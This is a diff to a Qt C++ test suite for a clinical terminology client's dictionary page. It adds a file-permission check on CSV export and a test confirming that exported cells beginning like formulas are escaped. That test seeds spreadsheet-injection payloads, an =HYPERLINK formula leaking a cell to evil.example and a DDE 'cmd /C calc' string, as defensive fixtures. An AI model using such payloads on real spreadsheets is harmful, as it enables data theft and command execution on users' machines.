@@ -8,7 +8,10 @@
 // Set CLINICLINK_SCREENSHOT_DIR to also get PNGs of what the tests looked at.
 
 #include "../integration/clientfixture.h"
+#include "../support/permissionwatch.h"
+#include "core/bulk/csvtext.h"
 #include "core/terminology/dictionarydownload.h"
+#include "core/terminology/terminologycache.h"
 #include "registrartesting.h"
 #include "ui/shell/mainwindow.h"
 #include "ui/terminology/dictionarypage.h"
@@ -66,6 +69,7 @@ class TestDictionaryPage : public QObject {
     }
 
 private Q_SLOTS:
+    void initTestCase() { testing::useDesktopUmask(); }
     void init()
     {
         f = std::make_unique<ClientFixture>();
@@ -128,7 +132,11 @@ private Q_SLOTS:
         shoot(window.get(), QStringLiteral("dictionaries-search"));
 
         const QString csv = f->dir.filePath(QStringLiteral("records.csv"));
+        testing::PermissionWatch watch(f->dir.path());
+        QVERIFY(watch.isValid());
         QVERIFY(page->exportRecords(csv));
+        QCOMPARE(QString::number(testing::fileMode(csv), 8), QStringLiteral("600"));
+        QCOMPARE(watch.changedAfterWriting(), QStringList());
         QFile file(csv);
         QVERIFY(file.open(QIODevice::ReadOnly));
         const QByteArray bytes = file.readAll();
@@ -140,6 +148,33 @@ private Q_SLOTS:
         auto *versions = child<QComboBox>("versionCombo");
         versions->setCurrentIndex(versions->findData(QStringLiteral("1.0")));
         QVERIFY(child<QLabel>("offlineLabel")->text().contains(page->tr("server")));
+    }
+
+    // What a terminology server says reaches Excel as text: a display or an attribute that
+    // begins like a formula is written with a leading "'" (issue 27's `=HYPERLINK(...)`).
+    void exportedRecordsRunNoFormula()
+    {
+        const QString oid = QStringLiteral("1.2.643.5.1.13.13.99.2.1");
+        TerminologyCache cache;
+        QVERIFY2(cache.open(f->dir.filePath(QStringLiteral("hostile-cache.sqlite"))), qPrintable(cache.lastError()));
+        CachedVersion v;
+        v.oid = oid;
+        v.version = QStringLiteral("1");
+        QVERIFY(cache.beginVersion(v));
+        const QString link = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Открыть\")");
+        QVERIFY(cache.storeConcepts(oid, v.version, 0,
+                                    {{QStringLiteral("A1"), link, {}},
+                                     {QStringLiteral("-2+3+cmd|' /C calc'!A0"), QStringLiteral("\t@SUM(1)"), {}}}));
+        QVERIFY(cache.finishVersion(oid, v.version, QDateTime(QDate(2026, 1, 15), QTime(9, 0), Qt::UTC)));
+        DictionaryRecordModel model;
+        model.showCached(&cache, oid, v.version);
+        QCOMPARE(model.rowCount(), 2);
+        const CsvTable back = readCsv(model.toCsv());
+        QVERIFY2(back.ok(), qPrintable(back.error));
+        QCOMPARE(back.rows.size(), 3);
+        QCOMPARE(back.rows.at(1).mid(0, 2), (QStringList{QStringLiteral("A1"), u'\'' + link}));
+        QCOMPARE(back.rows.at(2).mid(0, 2),
+                 (QStringList{QStringLiteral("'-2+3+cmd|' /C calc'!A0"), QStringLiteral("'\t@SUM(1)")}));
     }
 
     void recordCardHasEveryAttribute()
